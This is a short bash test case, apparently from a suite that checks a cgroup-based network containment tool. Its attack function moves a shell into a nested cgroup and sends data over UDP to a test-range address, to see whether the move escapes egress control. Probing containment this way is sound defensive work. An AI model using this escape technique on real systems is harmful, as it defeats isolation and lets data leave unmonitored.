# shellcheck shell=bash disable=SC2034,SC2329
# SPDX-License-Identifier: GPL-3.0-or-later
title='A cgroup below the scope of its own'
origin='RESEARCH §2.76'
reason='not_resolved'
forms=output
attack() {
    mkdir -p "$CGROUPS$CGROUP/below/deep"
    h c sh -c 'echo $$ > "$0/cgroup.procs" && exec "$@"' "$CGROUPS$CGROUP/below/deep" "$PYTHON" "$TOOL/send.py" udp 198.18.3.66 9999 "$1"
}
